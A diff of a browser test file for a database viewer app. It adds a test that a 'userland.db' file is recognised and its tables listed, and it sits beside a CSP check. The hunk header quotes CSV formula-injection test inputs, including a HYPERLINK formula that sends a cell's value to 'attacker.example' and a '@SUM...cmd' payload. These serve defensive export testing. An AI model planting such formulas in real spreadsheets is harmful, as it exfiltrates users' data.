@@ -602,6 +602,27 @@ for b in ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', '@SUM(1+1)*cmd
   ok(lines[5].endsWith('plain,-5'), `plain text and numbers untouched: ${lines[5]}`);
 });
 
+await test('a userland.db is recognised and its preferences, skills, rules and patterns are shown', async () => {
+  const ul = path.join(tmp, 'userland.db');
+  python(`
+import sqlite3, sys, re
+sql = open(sys.argv[1]).read()
+c = sqlite3.connect(sys.argv[2])
+c.executescript(sql.split('-- DOWN')[0])
+c.execute("INSERT INTO preferences (key, value, source) VALUES ('editor', 'vim', 'cli')")
+c.commit()
+`, path.join(repo, 'migrations', 'userland', '001_userland_tables.sql'), ul);
+  await openFile(ul);
+  ok(/userland\.db/.test(await text('#db-notice')), `recognised: ${await text('#db-notice')}`);
+  await goto('#/tables', 'tables');
+  for (const t of ['preferences', 'skills', 'ground_rules', 'learned_patterns', 'detected_patterns']) {
+    eq(await page.locator(`a[data-object="${t}"]`).count(), 1, `${t} listed`);
+  }
+  await goto('#/table/preferences', 'tables');
+  await page.waitForSelector('tr.data-row');
+  ok((await page.locator('tr.data-row').first().innerText()).includes('vim'), 'a preference shown');
+});
+
 await test('the Content-Security-Policy allows no inline script, and the page runs none', async () => {
   const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
   const script = /script-src ([^;]*)/.exec(csp)[1];
